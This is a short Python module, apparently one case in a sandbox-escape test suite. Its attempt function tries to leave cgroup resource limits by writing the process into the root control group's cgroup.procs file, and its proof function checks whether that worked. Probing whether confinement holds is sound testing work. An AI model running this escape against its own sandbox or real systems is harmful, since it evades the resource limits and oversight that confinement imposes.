"""Move to the root of the control groups, where no limit holds."""

from escape_tools import cgroup_files

NEEDS = ("landlock", "mount_namespace")
PRIVILEGED = True


def attempt(at):
    before = open("/proc/self/cgroup").read()
    for root, _own in cgroup_files(at.cgroup):
        with open(f"{root}/cgroup.procs", "w") as file:
            file.write("0")
    return open("/proc/self/cgroup").read() != before


def proof(at, seen):
    return seen.got is True
